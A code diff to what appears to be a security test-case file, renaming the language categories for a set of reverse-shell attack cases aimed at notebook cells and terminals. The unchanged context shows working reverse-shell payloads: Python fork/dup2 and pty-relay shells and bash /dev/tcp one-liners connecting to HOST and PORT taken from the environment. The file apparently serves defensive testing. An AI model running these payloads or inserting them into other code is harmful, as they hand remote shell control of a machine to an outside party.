@@ -2,12 +2,13 @@
 
 from __future__ import annotations
 
-from attacks.cases.base import Case, Language
+from attacks.cases.base import Case
+from live.programs import Language
 
 CASES = (
     Case(
         name="cell-fork-dup2",
-        language=Language.CELL,
+        language=Language.CELLS_STAY,
         text="""
 import os, socket
 if os.fork() == 0:
@@ -19,7 +20,7 @@ if os.fork() == 0:
     ),
     Case(
         name="cell-relay-thread-pty",
-        language=Language.CELL,
+        language=Language.CELLS_STAY,
         text="""
 import os, pty, select, socket, threading
 net = socket.create_connection((os.environ["HOST"], int(os.environ["PORT"])))
@@ -40,7 +41,7 @@ threading.Thread(target=relay, daemon=True).start()
     ),
     Case(
         name="cell-relay-thread-pipes",
-        language=Language.CELL,
+        language=Language.CELLS_STAY,
         text="""
 import os, shutil, socket, subprocess, threading
 net = socket.create_connection((os.environ["HOST"], int(os.environ["PORT"])))
@@ -52,12 +53,12 @@ for source, sink in ((down, shell.stdin), (shell.stdout, up)):
     ),
     Case(
         name="cell-shell-magic",
-        language=Language.CELL,
+        language=Language.CELLS_STAY,
         text="!bash -c 'bash -i >& /dev/tcp/$HOST/$PORT <&1'",
     ),
     Case(
         name="cell-bash-magic",
-        language=Language.CELL,
+        language=Language.CELLS_STAY,
         text="""
 %%bash --bg
 exec 4<>/dev/tcp/$HOST/$PORT
@@ -66,7 +67,7 @@ sh <&4 >&4 2>&4
     ),
     Case(
         name="terminal-reverse-shell",
-        language=Language.TERMINAL,
+        language=Language.SERVER_TERMINAL,
         text="bash -i >& /dev/tcp/$HOST/$PORT 0<&1",
     ),
 )
